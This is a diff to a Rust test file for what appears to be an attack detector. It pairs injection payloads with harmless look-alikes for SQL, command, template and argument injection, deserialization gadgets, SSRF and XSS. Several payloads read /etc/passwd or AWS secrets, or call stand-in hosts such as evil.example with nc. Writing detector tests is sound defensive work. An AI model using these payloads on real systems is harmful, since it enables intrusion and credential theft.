@@ -414,15 +414,24 @@ fn the_northwind_sample_database_but_not_a_company_of_that_name() {
         "sqli",
         Q,
         &[
-            "Northwind",
             "x'; USE Northwind--",
             "SELECT * FROM Northwind.dbo.Customers",
         ],
         &[
             "<img alt=\"Northwind Coffee\" src=\"https://cdn.example.com/logo.png\">",
             "We use Northwind Traders data in the tutorial",
+            // A brand or the company as a whole value (a feed's <g:brand>).
+            "Northwind",
         ],
     );
+    // Named alone where a database-name probe puts it: a parameter name, a raw body.
+    table(
+        "sqli",
+        FieldKind::QueryName,
+        &["Northwind"],
+        &["northwind_id"],
+    );
+    table("sqli", FieldKind::BodyText, &["northwind"], &[]);
 }
 
 #[test]
@@ -3380,12 +3389,125 @@ fn redirect_confusions_header_lines_and_their_look_alikes() {
     table(
         "cmdi",
         Q,
-        &[";(id|sh)", "$(id|sh)", "x (whoami|nc evil.example 4444)"],
+        &[
+            ";(id|sh)",
+            "$(id|sh)",
+            "x (whoami|nc evil.example 4444)",
+            "-utouch /tmp/pwned",
+            "--config=core.sshCommand=touch /tmp/pwned",
+            "-c core.fsmonitor=id",
+        ],
         &[
             "^(build|test|lint)(/.+)?$",
             "^(feat|fix|docs|chore|refactor|test|ci)(\\([a-z0-9-]+\\))?!?: .{1,72}$",
             "^(feature|bugfix|hotfix)/[A-Z]+-[0-9]+$",
             "(?:test|lint)",
+            "-u admin -p",
+            "-update the docs",
+            "score.sshcommand = 3",
         ],
+    );
+}
+
+/// Set 25 (written before tuning): template authoring next to template injection, .NET and
+/// Jackson gadgets, and markup a CMS saves next to markup that runs.
+#[test]
+fn templates_gadgets_and_cms_markup_next_to_their_look_alikes() {
+    const B: FieldKind = FieldKind::BodyValue;
+    table(
+        "ssti",
+        B,
+        &[
+            "{{ range(10) }}",
+            "{{ [\"__cla\",\"ss__\"]|join }}",
+            "{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}",
+            "{% if request.application.__globals__ %}x{% endif %}",
+            "{% apply system %}cat /etc/passwd{% endapply %}",
+            "{% set x = 1 %}",
+            "{% include '../../../etc/passwd' %}",
+            "{{ .Exec \"id\" }}",
+            "{{ .ReadFile \"/etc/passwd\" }}",
+            "{{ range $k, $v := .Env }}{{ $k }}={{ $v }}\n{{ end }}",
+            "{{ printf \"%s\" (index .Env \"AWS_SECRET_ACCESS_KEY\") }}",
+        ],
+        &[
+            "Hi {{.FirstName}},\n{{range .Items}}- {{.Title}} ({{.Views}} views)\n{{end}}",
+            "Posted in {{ page.categories | join: \", \" }}.",
+            "{% if order.shipping_address %}<p>Shipping to {{ order.shipping_address.city }}</p>{% endif %}",
+            "{% for line in line_items %}<li>{{ line.title }}</li>{% endfor %}",
+            "{% for star in (1..5) %}*{% endfor %}",
+            "{% include newsletter-signup.html %}",
+            "{% filter upper %}hello{% endfilter %}",
+            "{{ .Get \"title\" }}",
+        ],
+    );
+    table(
+        "php",
+        B,
+        &["$t('id')", "$t($_GET[0])", "$f(common.x)"],
+        &["$t(common.appName) is now available on Android"],
+    );
+    table(
+        "java",
+        B,
+        &[
+            "System.Windows.Data.ObjectDataProvider:#PresentationFramework",
+            "System.Diagnostics.Process, System, Version=4.0.0.0",
+            "<ObjectDataProvider MethodName=\"Start\" ObjectType=\"{x:Type Diag:Process}\">",
+            "clr-namespace:System.Diagnostics;assembly=system",
+            "System.Data.Services.Internal.ExpandedWrapper`2[[System.Windows.Markup.XamlReader, PresentationFramework]]",
+        ],
+        &[
+            "How do I bind a ComboBox through an ObjectDataProvider in WPF?",
+            "We call System.Diagnostics.Process.Start to open the PDF viewer",
+        ],
+    );
+    table(
+        "ssrf",
+        B,
+        &[
+            "rmi://203.0.113.47:1099/Exploit",
+            "iiop://x7k2q.oast.example:900/a",
+        ],
+        &["see the rmi registry docs"],
+    );
+    table(
+        "xss",
+        B,
+        &[
+            "<meta http-equiv=\"refresh\" content=\"0;url=//evil.example\">",
+            "<object data=\"//evil.example/x.swf\"></object>",
+            "<object type=\"text/html\" onerror=alert(1)></object>",
+            "<embed src=//evil.example/x>",
+            "<?xml version=\"1.0\"?><html xmlns=\"http://www.w3.org/1999/xhtml\"><base href=\"//evil.example/\"/></html>",
+            "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
+        ],
+        &[
+            "<meta property=\"og:title\" content=\"The Remote Work Guide\">",
+            "<meta itemprop=\"name\" content=\"Trail backpack\">",
+            "<p>Entry is free.</p><object type=\"application/kenticocloud\" data-type=\"item\" data-codename=\"cta_banner\"></object>",
+            "<?xml version=\"1.0\"?>\n<template name=\"order_shipped\"><subject>Your order</subject></template>",
+        ],
+    );
+    table(
+        "nodejs",
+        B,
+        &["/constructor/prototype/admin"],
+        &["/constructors/prototypes"],
+    );
+    table(
+        "cmdi",
+        Q,
+        &["date > /tmp/x; id", "x\n/???/??t /etc/passwd", "x\n/bin/*"],
+        &[
+            "date >= today() - 30",
+            "/thank-you\n/order-confirmation\n/internal-preview/*\n/tag/*",
+        ],
+    );
+    table(
+        "sqli",
+        B,
+        &["SELECT * FROM Northwind.dbo.Orders"],
+        &["Northwind", "Northwind product feed"],
     );
 }
